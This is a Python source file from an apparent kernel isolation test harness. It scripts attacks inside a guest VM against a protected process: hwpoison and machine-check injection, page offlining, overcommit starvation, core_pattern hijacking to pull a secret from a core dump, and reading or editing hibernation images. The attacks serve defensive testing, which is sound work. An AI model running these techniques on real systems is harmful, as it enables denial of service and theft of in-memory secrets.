# SPDX-License-Identifier: GPL-2.0-only
"""Attacks by failing memory, overcommit limits, core dumps and hibernation images."""

from __future__ import annotations

import time
from errno import EACCES, EBUSY, EINVAL, EIO, ENOENT, EPERM, ESRCH
from io import BytesIO
from os import O_RDONLY
from typing import TYPE_CHECKING

from elftools.elf.elffile import ELFFile

from harness.attacker.agent.attacker import SECRET_SIZE
from harness.attacker.agent.errors import GuestError, NoTarget
from harness.attacker.tools.bpf import BpfObject
from harness.attacker.tools.frames import (
    KPF_ANON,
    KPF_SWAPBACKED,
    KPF_UNEVICTABLE,
    frames_with,
)
from harness.attacker.tools.pagemap import PAGE
from harness.attacker.tools.snapshot import SnapshotDevice
from harness.attacker.tools.swap import drain_batches
from harness.model.verdict import Effect, Verdict
from harness.scenarios.holes import on_both
from harness.scenarios.registry import BY_OPEN, scenario

if TYPE_CHECKING:
    from harness.attacker import Attacker
    from harness.witness.handler import Handler

HARD_OFFLINE = "/sys/devices/system/memory/hard_offline_page"
SOFT_OFFLINE = "/sys/devices/system/memory/soft_offline_page"
HWPOISON = "/sys/kernel/debug/hwpoison/corrupt-pfn"
MCE_INJECT = "/sys/kernel/debug/mce-inject"
MCE_INTERVAL = "/sys/devices/system/machinecheck/machinecheck0/check_interval"

# IA32_MCi_STATUS and IA32_MCi_MISC: an error that was found before the memory was used
MCI_ENABLED_AT_ADDRESS = 1 << 60 | 1 << 58
MCI_UNCORRECTED, MCI_DEFERRED, MCI_ECC_ERROR = 1 << 61, 1 << 44, 8 << 16
MCI_MISC_PHYSICAL_PAGE = 2 << 6 | 12
MEMORY_CONTROLLER = 4

CORE = "/tmp/core"  # noqa: S108 - the guest's, not ours
CORE_PATTERN = "/proc/sys/kernel/core_pattern"
OVERCOMMIT = "/proc/sys/vm/overcommit"

SECONDS = 4.0

ALL_OF_MEMORY = "the image holds all memory, also a kernel thread's; lockdown closes it"


@scenario(
    effect=Effect.STEP,
    surface="hwpoison-soft-offline",
    answers=("T1", "C3"),
    call="write",
    no_target=(EBUSY, EIO),
    reach="soft_offline_page",
    target="system",
    needs=("MEMORY_FAILURE",),
)
def soft_offline(attacker: Attacker, handler: Handler) -> None:
    """Soft-offline the page of the handler's state through sysfs. The kernel moves the page."""
    drain_batches(attacker)
    before = handler.physical("chain")
    attacker.write_file(SOFT_OFFLINE, f"{before:#x}".encode())
    handler.wait_for_request()
    attacker.gain(
        "that its state moves on request", True, truth=handler.physical("chain") != before
    )


@scenario(
    effect=Effect.AVAILABILITY,
    also=(Effect.INTEGRITY,),
    shows="image",
    surface="hwpoison-soft-offline",
    answers=("T15", "L5"),
    call="write",
    no_target=(EBUSY, EIO),
    reach="memory_failure",
    target="system",
    needs=("MEMORY_FAILURE",),
)
def hard_offline(attacker: Attacker, handler: Handler) -> None:
    """Hard-offline the pages of the blob through sysfs. Then no handler can start.

    Where the isolation keeps the blob from the swap device, /proc/kpageflags gives its pages away:
    they are the only ones of a tmpfs that are unevictable. Elsewhere the page of the state, or of
    the code, takes their place.
    """
    drain_batches(attacker)
    frames = frames_with(attacker, KPF_SWAPBACKED | KPF_UNEVICTABLE, but=KPF_ANON)
    spared: GuestError | None = None
    for frame in frames or {handler.physical("chain" if handler.is_thread else "_start") // PAGE}:
        try:
            attacker.write_file(HARD_OFFLINE, f"{frame * PAGE:#x}".encode())
        except GuestError as error:
            if error.errno != EBUSY:
                raise
            spared = error
    handler.restart()
    if spared:
        raise spared


@scenario(
    effect=Effect.AVAILABILITY,
    surface="hwpoison-inject-mce-inject",
    answers=("T15", "L5"),
    call="write",
    no_target=(EBUSY, EIO),
    reach="hwpoison_inject",
    target="system",
    needs=("HWPOISON_INJECT",),
    lockdown=BY_OPEN,
)
def hwpoison_inject(attacker: Attacker, handler: Handler) -> None:
    """Poison the page of the handler's state through hwpoison/corrupt-pfn in debugfs."""
    attacker.write_file(HWPOISON, hex(handler.physical("chain") // PAGE).encode())


@scenario(
    effect=Effect.AVAILABILITY,
    surface="hwpoison-inject-mce-inject",
    answers=("T15", "L5"),
    reach="inj_bank_set",
    target="system",
    needs=("X86_MCE_INJECT",),
    lockdown=BY_OPEN,
)
def mce_inject(attacker: Attacker, handler: Handler) -> None:
    """Inject a machine check for the page of the handler's state by mce-inject in debugfs."""
    is_amd = b"AuthenticAMD" in attacker.read_file("/proc/cpuinfo")
    with attacker.setup():
        attacker.write_file(MCE_INTERVAL, b"1")  # seconds: the kernel polls, no interrupt comes
    status = MCI_ENABLED_AT_ADDRESS | (MCI_DEFERRED | MCI_ECC_ERROR if is_amd else MCI_UNCORRECTED)
    for name, value in (
        ("flags", "hw"),
        ("status", hex(status)),
        ("misc", hex(MCI_MISC_PHYSICAL_PAGE)),
        ("addr", hex(handler.physical("chain"))),
        ("bank", str(MEMORY_CONTROLLER)),
    ):
        attacker.write_file(f"{MCE_INJECT}/{name}", f"{value}\n".encode())
    deadline = time.monotonic() + SECONDS
    while b"HardwareCorrupted:     0 kB" in attacker.read_file("/proc/meminfo"):
        if time.monotonic() > deadline:
            raise TimeoutError("the kernel did not notice the machine check")


@scenario(
    effect=Effect.AVAILABILITY,
    also=(Effect.INTEGRITY,),
    shows="image",
    surface="madv-hwpoison-shared",
    answers=("T15", "C2"),
    call="openat",
    refused=(EPERM, EACCES),
    no_target=(ENOENT,),
    no_target_at="security_ptrace_access_check",
    reach="security_ptrace_access_check",
    needs=("MEMORY_FAILURE",),
    debugging=False,
)
def madvise_hwpoison(attacker: Attacker, handler: Handler) -> None:
    """Map the blob through /proc/<pid>/exe and poison a page of its code by MADV_HWPOISON.

    A debugger may map the blob, but the kernel spares its pages.
    """
    with attacker.open(f"/proc/{handler.pid}/exe", O_RDONLY) as program:
        attacker.waitpid(attacker.spawn(attacker.payload("poison_stdin"), stdin=program.fd))


@scenario(
    effect=Effect.AVAILABILITY,
    surface="overcommit-stack-segv",
    answers=("L5", "C10"),
    reach="overcommit_kbytes_handler",
    target="system",
)
def overcommit(attacker: Attacker, handler: Handler) -> None:
    """Set vm.overcommit_memory to 2 and vm.overcommit_kbytes to 1 while the next handler starts."""
    attacker.write_file(f"{OVERCOMMIT}_kbytes", b"1")
    attacker.write_file(f"{OVERCOMMIT}_memory", b"2")
    handler.restart()
    attacker.write_file(f"{OVERCOMMIT}_memory", b"0")


@scenario(
    effect=Effect.NONE,
    surface="process-mrelease",
    answers=("T1", "T15"),
    call="process_mrelease",
    refused=(EINVAL, ESRCH),
    reach="pidfd_get_task",
    target="system",
)
def process_mrelease(attacker: Attacker, handler: Handler) -> None:
    """Call process_mrelease(2) on the handler. It takes exiting processes only, and no driver."""
    with attacker.pidfd_open(handler.pid) as pidfd:
        attacker.syscall("process_mrelease", pidfd.fd, 0)


@scenario(
    effect=Effect.CONFIDENTIALITY,
    also=(Effect.AVAILABILITY,),
    surface="coredump-leak",
    answers=("T1", "T15", "R16"),
    call="bpf",
    refused=(EPERM, EACCES),
    reach="security_bpf_prog_load",
    target="system",
)
def coredump(attacker: Attacker, handler: Handler) -> None:
    """Abort the handler by a BPF program and read the secret from its core dump."""
    with attacker.setup():
        attacker.write_file(CORE_PATTERN, f"|{attacker.payload('keep_stdin')} {CORE}".encode())
    abort = BpfObject(attacker, "abort", tgid=handler.pid.to_bytes(4, "little"))
    if not abort.hits():
        raise NoTarget("it makes no system calls")
    try:
        core = wait_for_file(attacker, CORE)
    except TimeoutError as error:
        raise NoTarget("it does not dump core") from error
    at = next(ELFFile(BytesIO(core)).address_offsets(handler.symbol("secret"), SECRET_SIZE))
    attacker.show(core[at : at + SECRET_SIZE])


@scenario(
    effect=Effect.INTEGRITY,
    shows="dump",
    surface="coredump-filter",
    answers=("T1", "R16"),
    call="write",
    no_target=(ESRCH,),
    no_target_at="get_task_mm",
    reach="get_task_mm",
    debugging=True,
)
def coredump_filter(attacker: Attacker, handler: Handler) -> None:
    """Choose what a core dump of the handler would hold by /proc/<pid>/coredump_filter."""
    attacker.write_file(f"/proc/{handler.pid}/coredump_filter", b"0xff")


@scenario(
    effect=Effect.CONFIDENTIALITY,
    surface="hibernation-image",
    answers=("R16", "C15"),
    reach="snapshot_ioctl",
    target="system",
    needs=("HIBERNATION_SNAPSHOT_DEV",),
    holes=on_both(Verdict.LEAKED, ALL_OF_MEMORY),
    lockdown=BY_OPEN,
    freezes=True,
)
def hibernation_image(attacker: Attacker, handler: Handler) -> None:
    """Make a hibernation image through /dev/snapshot and read the secret from it."""
    frame = handler.physical("chain") // PAGE
    with SnapshotDevice(attacker) as snapshot, snapshot.frozen(), snapshot.image():
        page = snapshot.page(frame)
    attacker.show_all(page)


@scenario(
    effect=Effect.INTEGRITY,
    surface="hibernation-image",
    answers=("T2", "C15"),
    reach="snapshot_ioctl",
    target="system",
    needs=("HIBERNATION_SNAPSHOT_DEV",),
    whole_kernel=True,
    holes=on_both(Verdict.TAMPERED, ALL_OF_MEMORY),
    pauses=True,
    lockdown=BY_OPEN,
)
def hibernation_image_edit(attacker: Attacker, handler: Handler) -> None:
    """Change the handler's state in a hibernation image and resume the machine from it."""
    frame, offset = divmod(handler.physical("chain"), PAGE)
    SnapshotDevice(attacker).close()  # the payload opens it as well, but reports no errno
    attacker.spawn(attacker.payload("edit_image"), str(frame), str(offset))
    handler.wait_for_rewind()  # the agent's port does not survive the resume


def wait_for_file(attacker: Attacker, path: str) -> bytes:
    """Wait for a file and return its content. Raises TimeoutError after 4 s."""
    folder, _, name = path.rpartition("/")
    deadline = time.monotonic() + SECONDS
    while name not in attacker.listdir(folder):
        if time.monotonic() > deadline:
            raise TimeoutError(f"{path} was not created in time")
    return attacker.read_file(path)
